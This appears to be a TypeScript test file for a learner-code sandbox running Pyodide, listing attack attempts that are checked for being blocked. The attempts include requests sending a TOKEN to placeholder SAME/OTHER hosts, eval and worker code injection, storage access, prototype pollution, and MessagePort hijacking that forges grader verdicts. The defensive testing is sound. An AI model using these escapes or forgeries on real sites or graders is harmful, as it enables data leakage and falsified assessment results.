// What learner code may try, as Python. SAME and OTHER stand for addresses at the site's own and another origin; both end
// in TOKEN, which then shows in the servers' logs; QUIC for a host that hears datagrams. The last expression says "reached…" or "blocked…"; whatever it says, a
// request or datagram that arrives, a message that the page hears and a TOKEN among what the site keeps count as reached.
import type { Name } from "../browsers.ts";

export interface Attack {
  name: string;
  code: string;
  /** Whether it must succeed in a worker without a sandbox (of this browser): the proof that the attack is one. */
  control?: true | Name;
  /** It kills Python, so that no answer comes; Stop is left. */
  deadly?: true;
}

export const PRELUDE = `
import asyncio, js, pyodide_js
from js import Object
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

def obj(**options):
    return to_js(options, dict_converter=Object.fromEntries)

async def attempt(make, seconds=2):
    try:
        value = make()
        if hasattr(value, "then") or asyncio.iscoroutine(value):
            value = await asyncio.wait_for(value, seconds)
        return f"reached: {str(value)[:60]}"
    except BaseException as error:
        return f"blocked: {type(error).__name__} {str(error)[:80]}"

async def first(make, good, bad, seconds=2):
    "What the first of the target's events means."
    try:
        target = make()
    except BaseException as error:
        return f"blocked: {type(error).__name__} {str(error)[:80]}"
    future = asyncio.get_running_loop().create_future()
    for names, word in ((good, "reached"), (bad, "blocked")):
        for name in names.split():
            hear = lambda event, said=f"{word}: {name}": future.done() or future.set_result(said)
            target.addEventListener(name, create_proxy(hear))
    try:
        return await asyncio.wait_for(future, seconds)
    except asyncio.TimeoutError:
        return "blocked: nothing happened"
`;

const POST = 'obj(method="POST", body="x", mode="no-cors", keepalive=True)';
const BLOB = 'js.URL.createObjectURL(js.Blob.new(to_js(["self.ran = 1"]), obj(type="text/javascript")))';

export const ATTACKS: Attack[] = [
  // First, before the timings are full of what learner code asked for itself
  {
    name: "where it is, by address, timings, traces and reports",
    code: `
told = [js.location.href, js.origin, js.Error.new().stack or "", *(entry.name for entry in js.performance.getEntries())]
if hasattr(js, "ReportingObserver"):
    observer = js.ReportingObserver.new(create_proxy(lambda reports, _: None), obj(buffered=True))
    observer.observe()
    told += [report.url for report in observer.takeRecords()]
site = "SAME".split("/")[2]
found = [text for text in told if site in text]
f"reached: {found}" if found else "blocked: it is not told"`,
    control: true,
  },
  // The network
  { name: "fetch, same origin", code: 'await attempt(lambda: js.fetch("SAME"))', control: true },
  { name: "fetch, other origin", code: 'await attempt(lambda: js.fetch("OTHER", obj(mode="no-cors")))', control: true },
  { name: "fetch that outlives the page", code: `await attempt(lambda: js.fetch("OTHER", ${POST}))`, control: true },
  {
    name: "XMLHttpRequest",
    code: `
def go():
    request = js.XMLHttpRequest.new()
    request.open("GET", "SAME", False)
    request.send()
    return request.status
await attempt(go)`,
    control: true,
  },
  {
    name: "WebSocket",
    code: 'await first(lambda: js.WebSocket.new("OTHER".replace("http", "ws")), "open", "error close")',
    control: true,
  },
  {
    name: "EventSource",
    code: 'await first(lambda: js.EventSource.new("OTHER"), "open message", "error")',
    control: true,
  },
  {
    name: "WebTransport",
    code: 'await attempt(lambda: js.WebTransport.new("https://QUIC/").ready)',
    control: true,
  },
  {
    name: "WebSocketStream",
    code: 'await attempt(lambda: js.WebSocketStream.new("OTHER".replace("http", "ws")).opened)',
    control: "chrome",
  },
  { name: "sendBeacon", code: 'await attempt(lambda: js.navigator.sendBeacon("OTHER"))' },
  { name: "RTCPeerConnection", code: "await attempt(lambda: js.RTCPeerConnection.new())" },
  { name: "a font", code: 'await attempt(lambda: js.FontFace.new("x", "url(OTHER)").load())', control: true },
  { name: "pyfetch", code: 'from pyodide.http import pyfetch\nawait attempt(lambda: pyfetch("SAME"))', control: true },
  {
    name: "open_url",
    code: 'from pyodide.http import open_url\nawait attempt(lambda: open_url("SAME"))',
    control: true,
  },
  {
    name: "loadPackage",
    code: 'await attempt(lambda: pyodide_js.loadPackage("SAME/x-1-py3-none-any.whl"))\n"blocked"',
    control: true,
  },
  {
    name: "requests",
    code: 'import requests\nawait attempt(lambda: requests.get("OTHER", timeout=1).status_code)',
    control: true,
  },
  { name: "urllib", code: 'import urllib.request\nawait attempt(lambda: urllib.request.urlopen("OTHER", timeout=1))' },
  {
    name: "a socket",
    code: `
def go():
    import socket
    connection = socket.create_connection(("127.0.0.1", int("OTHER".split(":")[2].split("/")[0])), 1)
    connection.sendall(b"GET /TOKEN HTTP/1.0\\r\\n\\r\\n")
    return connection.recv(9)
await attempt(go)`,
  },
  // Script of one's own
  { name: "eval", code: `await attempt(lambda: js.eval("fetch('SAME'); 1"))`, control: true },
  { name: "new Function", code: `await attempt(lambda: js.Function.new("fetch('SAME'); return 1")())`, control: true },
  {
    name: "a function's constructor",
    code: `await attempt(lambda: js.setTimeout.constructor("fetch('SAME')")())`,
    control: true,
  },
  {
    name: "an async function's constructor",
    code: `await attempt(lambda: pyodide_js.runPythonAsync.constructor("fetch('SAME')")())`,
    control: true,
  },
  {
    name: "Function by Reflect.construct",
    code: `await attempt(lambda: js.Reflect.construct(js.Function, to_js(["fetch('SAME')"]))())`,
    control: true,
  },
  { name: "run_js", code: `await attempt(lambda: run_js("fetch('SAME'); 1"))`, control: true },
  {
    name: "setTimeout with a text",
    code: `await attempt(lambda: js.setTimeout("self.late = fetch('SAME')", 0))\nawait asyncio.sleep(0.3)\n"reached" if hasattr(js, "late") else "blocked"`,
    control: true,
  },
  {
    name: "setInterval with a text",
    code: `timer = js.setInterval("self.often = fetch('SAME')", 50)\nawait asyncio.sleep(0.3)\njs.clearInterval(timer)\n"reached" if hasattr(js, "often") else "blocked"`,
    control: true,
  },
  { name: "import(), by eval", code: `await attempt(lambda: js.eval("import('SAME')"))`, control: true },
  {
    name: "importScripts of an address",
    code: 'await attempt(lambda: js.WorkerGlobalScope.prototype.importScripts("SAME"))',
  },
  {
    name: "importScripts, the real one",
    code: `js.Reflect.deleteProperty(js.globalThis, "importScripts")\nawait attempt(lambda: js.importScripts("SAME"))`,
    control: true,
  },
  {
    name: "importScripts of a blob",
    code: `js.Reflect.deleteProperty(js.globalThis, "importScripts")\nawait attempt(lambda: js.importScripts(${BLOB}))`,
    control: true,
  },
  {
    name: "importScripts of data",
    code: `js.Reflect.deleteProperty(js.globalThis, "importScripts")\nawait attempt(lambda: js.importScripts("data:text/javascript,fetch('SAME')"))`,
    control: true,
  },
  { name: "a worker from an address", code: 'await first(lambda: js.Worker.new("SAME"), "message", "error")' },
  { name: "a worker from a blob", code: `await first(lambda: js.Worker.new(${BLOB}), "message", "error")` },
  { name: "a shared worker", code: 'await attempt(lambda: js.SharedWorker.new("SAME"))' },
  { name: "a service worker", code: 'await attempt(lambda: js.navigator.serviceWorker.register("SAME"))' },
  {
    name: "emscripten_run_script through ctypes",
    code: `import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch('SAME')")\n"blocked"`,
    deadly: true,
  },
  {
    name: "a lazy file of Emscripten's",
    code: `pyodide_js.FS.createLazyFile("/", "lazy", "SAME", True, False)\nopen("/lazy").read()`,
    deadly: true,
    control: true,
  },
  // What the site keeps
  { name: "IndexedDB", code: 'await first(lambda: js.indexedDB.open("progress"), "success", "error")', control: true },
  { name: "Cache Storage", code: 'await attempt(lambda: js.caches.open("progress"))', control: true },
  {
    name: "the private file system",
    code: "await attempt(lambda: js.navigator.storage.getDirectory())",
    control: true,
  },
  {
    name: "IndexedDB by Emscripten's file system",
    code: `
async def go():
    done = asyncio.get_running_loop().create_future()
    pyodide_js.FS.mkdirTree("/idb")
    pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, obj(), "/idb")
    hear = lambda error: done.set_exception(RuntimeError(str(error))) if error else done.set_result("synced")
    pyodide_js.FS.syncfs(True, create_proxy(hear))
    return await done
await attempt(go)`,
    control: true,
  },
  {
    name: "a database of one's own",
    code: 'await first(lambda: js.indexedDB.open("TOKEN"), "success", "error")',
    control: true,
  },
  { name: "the names of databases", code: "await attempt(lambda: js.indexedDB.databases())", control: true },
  {
    name: "something more in the cache",
    code: `
async def go():
    cache = await js.caches.open("progress")
    return await cache.put("SAME-cached", js.Response.new("x"))
await attempt(go)`,
    control: true,
  },
  {
    name: "a private file of one's own",
    code: `
async def go():
    folder = await js.navigator.storage.getDirectory()
    return await folder.getFileHandle("TOKEN", obj(create=True))
await attempt(go)`,
    control: true,
  },
  {
    name: "how much is stored",
    code: "await attempt(lambda: js.navigator.storage.estimate())",
    control: true,
    deadly: true, // Firefox never comes back from this call where there is no origin
  },
  {
    name: "storage buckets",
    code: 'await attempt(lambda: js.navigator.storageBuckets.open("progress"))',
    control: "chrome",
  },
  { name: "a cookie of one's own", code: 'await attempt(lambda: js.cookieStore.set("TOKEN", "x"))' },
  {
    name: "localStorage, cookies",
    code: `
there = [name for name in ("localStorage", "sessionStorage", "document", "cookieStore") if hasattr(js, name)]
found = [name for name in there if name != "cookieStore"]
if "cookieStore" in there:
    got = await attempt(lambda: js.cookieStore.get("progress"))
    found += [got] if got.startswith("reached") and "None" not in got else []
f"reached: {found}" if found else "blocked: none is there"`,
  },
  { name: "locks", code: "await attempt(lambda: js.navigator.locks.query())", control: true },
  {
    name: "holding a lock",
    code: `
hold = create_proxy(lambda lock: js.Promise.new(create_proxy(lambda *_: None)))
await attempt(lambda: js.navigator.locks.request("TOKEN", hold))`,
    control: true,
  },
  {
    name: "BroadcastChannel",
    code: 'await attempt(lambda: js.BroadcastChannel.new("champion").postMessage("TOKEN"))\nawait asyncio.sleep(0.3)\n"blocked"',
    control: true,
  },
  // The page
  { name: "a notification", code: 'await first(lambda: js.Notification.new("TOKEN"), "show click", "error")' },
  {
    name: "devices",
    code: `
said = [await attempt(lambda: js.navigator.usb.getDevices()), await attempt(lambda: js.navigator.serial.getPorts())]
max(said)`,
    control: "chrome",
  },
  {
    name: "parent, top, opener, open",
    code: `
found = [name for name in ("parent", "top", "opener", "window", "frames", "open", "frameElement") if hasattr(js, name)]
f"reached: {found}" if found else "blocked: none is there"`,
  },
  {
    name: "navigation",
    code: `
def go():
    js.location.href = "SAME"
    js.location.assign("SAME")
await attempt(go)`,
  },
  {
    name: "messages to the iframe, as if to the page",
    code: `
for said in (obj(id=1, value="TOKEN"), "TOKEN"):
    js.postMessage(said)
    await attempt(lambda: js.postMessage(said, obj(targetOrigin="*")))
    await attempt(lambda: js.dispatchEvent(js.MessageEvent.new("message", obj(data=said))))
await asyncio.sleep(0.3)
"blocked"`,
  },
  {
    name: "pollution of prototypes",
    code: 'js.Object.prototype.polluted = js.Array.prototype.polluted = "TOKEN"\n"blocked"',
  },
];

/** Takes hold of every MessagePort that passes the runtime's hands after this code ran; LOOT then speaks through them. */
export const STEAL = `
ports = []
real = lambda owner, name, part: js.Reflect.get(js.Object.getOwnPropertyDescriptor(owner, name), part)
apply, to_string = js.Reflect.get(js.Reflect, "apply"), real(js.Object.prototype, "toString", "value")
current, post = real(js.Event.prototype, "currentTarget", "get"), real(js.MessagePort.prototype, "postMessage", "value")
kept = []

def look(*things):
    for thing in things:
        if apply(to_string, thing, to_js([])) == "[object MessagePort]" and not any(thing == port for port in ports):
            ports.append(thing)

def hook(owner, name, part):
    original = real(owner, name, part)
    def hooked(this, *given):
        look(this, *given)
        if part == "get":
            look(apply(current, this, to_js([])))
        return apply(original, this, to_js(list(given)))
    proxy = create_proxy(hooked)
    kept.extend((original, proxy))
    change = obj(value=proxy.captureThis(), writable=True, configurable=True) if part == "value" else obj(get=proxy.captureThis(), configurable=True)
    js.Object.defineProperty(owner, name, change)

hook(js.MessagePort.prototype, "postMessage", "value")
for owner, name in ((js.MessageEvent, "data"), (js.MessageEvent, "ports"), (js.Event, "target")):
    hook(owner.prototype, name, "get")
`;

/** As answer to the run ID: a forged one through every stolen port. */
export const LOOT = `
for port in ports:
    apply(post, port, to_js([obj(id=ID, value="forged")]))
"honest"`;

/** As the fourth run: what a page must bear. */
export const MALFORMED = `
own_proto = js.JSON.parse('{"__proto__": {"polluted": 1}, "id": 4, "stream": "__proto__", "text": "x"}')
odd = (1, "x", None, own_proto, obj(id=4, stream="stdout", text=1), obj(id=4, need=to_js(["../secret", "__proto__", 1])), obj(id=99, value="another run"), obj(id=4, stream="stdin", text="x"))
for port in ports:
    for message in odd:
        apply(post, port, to_js([message]))
"survived"`;

/** As a run of its own each: something odd, with this run's ID, through the stolen ports. An honest end follows. */
export const ODD: Record<string, string> = {
  "a verdict that nobody asked for": 'obj(id=ID, verdict="right", says="forged")',
  "ready, a step, a failure, as if it still started": 'obj(id=ID, ready=True, lap="x", failed="x")',
  "warmed, as a spare says": 'obj(id=ID, warmed=to_js(["core"]))',
  "layers that are none": 'obj(id=ID, missing=to_js(["../secret", "__proto__", 1]))',
  "an error that is no text": "obj(id=ID, error=obj(toString=1, then=1, length=1e9))",
  "a list, a map, a blob as its value": 'obj(id=ID, value=to_js([js.Map.new(), js.Blob.new(), js.Date.new(), "<b>"]))',
  "an error object of JavaScript's": 'obj(id=ID, error=js.TypeError.new("x"))',
  "a text of five million": 'obj(id=ID, value="x" * 5_000_000)',
};
export const SAY = `
for port in ports:
    apply(post, port, to_js([MESSAGE]))
"honest"`;

/** Odd ends without any port: the runtime's own Python is the learner's too. Lasts for the runs that follow. */
export const ODD_END = `
import champion_tab
async def run(*_):
    return obj(toJs=create_proxy(lambda: to_js([obj(slice=create_proxy(lambda *_: 1e9)), obj(message="forged")])), destroy=create_proxy(lambda: None))
champion_tab.run = run`;

/** As the fifth run. */
export const FLOOD = `
while True:
    for port in ports:
        apply(post, port, to_js([obj(id=5, stream="stdout", text="")]))`;

/** Whatever reflection reaches from the globals, Pyodide and the garbage collector's JsProxies: is there a port of the page? */
export const WALK = `
import gc
from collections import deque
from pyodide.ffi import JsProxy
seen, found, count = js.Set.new(), 0, 0
queue = deque([js.globalThis, pyodide_js, pyodide_js._api, pyodide_js._module, *(one for one in gc.get_objects() if isinstance(one, JsProxy))])
while queue and count < 6000:
    thing = queue.popleft()
    if not isinstance(thing, JsProxy) or seen.has(thing):
        continue
    seen.add(thing)
    count += 1
    try:
        tag = js.Object.prototype.toString.call(thing)
        if tag == "[object MessagePort]":
            found += js.Object.getPrototypeOf(thing) == js.MessagePort.prototype
            continue
        if "Array]" in tag or tag == "[object ArrayBuffer]":
            continue
        for name in list(js.Reflect.ownKeys(thing))[:800]:
            descriptor = js.Object.getOwnPropertyDescriptor(thing, name)
            queue.extend(value for part in ("value", "get", "set") if isinstance(value := getattr(descriptor, part, None), JsProxy))
        if parent := js.Object.getPrototypeOf(thing):
            queue.append(parent)
    except Exception:
        pass
(found, count > 1000)`;

/** JavaScript that tries what a worker can, each at an address or name with its own name in it; gives what it reached. */
export const TRIES = `(async () => {
  const heard = (target, good) => new Promise((yes, no) => Object.assign(target, { ["on" + good]: yes, onerror: no, onclose: no }));
  const text = (name) => "self.ran = 1; fetch('SAME/" + name + "').catch(() => 0)";
  const data = (name) => "data:text/javascript," + text(name);
  const blob = (name) => URL.createObjectURL(new Blob([text(name)], { type: "text/javascript" }));
  Reflect.deleteProperty(globalThis, "importScripts"); // ours, which is in front of the real one
  const tries = {
    fetch: (name) => fetch("OTHER/" + name, { mode: "no-cors" }),
    request: (name) => { const x = new XMLHttpRequest(); x.open("GET", "SAME/" + name, false); x.timeout = 5000; x.send(); },
    socket: (name) => heard(new WebSocket("OTHER/".replace("http", "ws") + name), "open"),
    source: (name) => heard(new EventSource("OTHER/" + name), "open"),
    import: (name) => import("SAME/" + name),
    importData: (name) => import(data(name)),
    importBlob: (name) => import(blob(name)),
    scripts: (name) => importScripts("SAME/" + name),
    scriptsData: (name) => importScripts(data(name)),
    scriptsBlob: (name) => importScripts(blob(name)),
    database: () => heard(indexedDB.open("progress"), "success"),
    caches: () => caches.open("progress"),
    files: () => navigator.storage.getDirectory(),
    locks: () => navigator.locks.query(),
  };
  const reached = [];
  for (const [name, go] of Object.entries(tries)) {
    const late = new Promise((_, no) => setTimeout(no, 1000));
    try { await Promise.race([go(name), late]); reached.push(name); } catch {}
  }
  return [Object.keys(tries).join(), reached.join()];
})()`;

/** The same in a worker that a worker made from a blob. */
export const NESTED = `
script = r"""${TRIES}.then(postMessage)"""
url = js.URL.createObjectURL(js.Blob.new(to_js([script]), obj(type="text/javascript")))
told = asyncio.get_running_loop().create_future()
worker = js.Worker.new(url)
worker.onmessage = create_proxy(lambda event: told.set_result(event.data.to_py()))
worker.onerror = create_proxy(lambda event: told.set_exception(RuntimeError(event.message)))
" ".join(await asyncio.wait_for(told, 25))`;

export const TRIED = `" ".join((await run_js(r"""${TRIES}""")).to_py())`;

/**
 * For a frame with `eval`: gets in between of every function, getter and setter that the realm has, and of what is read
 * from or written to objects by the names in our messages. `speak` forges a message through each port that passed.
 */
export const SWEEP = `
run_js(r"""(() => {
  const { apply, construct } = Reflect;
  const { defineProperty, getOwnPropertyDescriptor: describe } = Object;
  const { isPrototypeOf } = Object.prototype;
  const post = MessagePort.prototype.postMessage;
  const current = describe(Event.prototype, "currentTarget").get;
  const [ports, events] = [MessagePort.prototype, Event.prototype];
  const loot = [];
  const look = (thing) => {
    if (typeof thing !== "object" || thing === null) return;
    if (apply(isPrototypeOf, ports, [thing])) loot[loot.length] = thing;
    else if (apply(isPrototypeOf, events, [thing])) look(apply(current, thing, []));
  };
  const looks = (things) => { for (let n = 0; n < things.length; n++) look(things[n]); };
  const seen = (got) => { look(got); return got; };
  const traps = {
    apply(target, self, given) { look(self); looks(given); return seen(apply(target, self, given)); },
    construct(target, given, made) { looks(given); return construct(target, given, made); },
  };
  const places = [];
  const known = new Set();
  const gather = (owner) => {
    if (!owner || known.has(owner) || !["object", "function"].includes(typeof owner)) return;
    known.add(owner);
    for (const key of Reflect.ownKeys(owner)) {
      const found = describe(owner, key);
      if (!found.configurable || key === "constructor" || key === "eval") continue;
      if (typeof found.value === "function" || found.get || found.set) places.push([owner, key, found]);
      if (typeof found.value === "function" && found.value.prototype) gather(found.value.prototype);
      if (typeof found.value === "function" || owner === globalThis) gather(found.value);
    }
  };
  gather(globalThis);
  const makers = [[], new Map(), new Set(), "", new Uint8Array()];
  for (const one of makers) gather(Object.getPrototypeOf(one[Symbol.iterator]()));
  for (const one of [async () => 0, function* () {}, async function* () {}]) gather(Object.getPrototypeOf(one));
  for (const owner of [self, ...known]) gather(Object.getPrototypeOf(owner));
  globalThis.count = places.length;
  globalThis.speak = (id) => {
    for (let n = 0; n < loot.length; n++) apply(post, loot[n], [{ id, value: "forged" }]);
    return loot.length ? "honest" : "it looks at nothing"; // Pyodide has ports of its own
  };
  for (let n = 0; n < places.length; n++) {
    const owner = places[n][0], key = places[n][1], found = places[n][2];
    for (const part of ["value", "get", "set"]) if (typeof found[part] === "function") found[part] = new Proxy(found[part], traps);
    defineProperty(owner, key, found);
  }
  // Not "value", which would make a nonsense of every property descriptor, nor what the worker tells tasks apart by.
  for (const key of ["id", "error", "verdict", "says", "then", "stream", "text", "need", "missing", "port", "data", "ports"])
    defineProperty(Object.prototype, key, {
      get() { look(this); },
      set(value) { look(this); look(value); defineProperty(this, key, { value, writable: true, enumerable: true, configurable: true }); },
      configurable: true,
    });
})()""")
run_js("count")`;
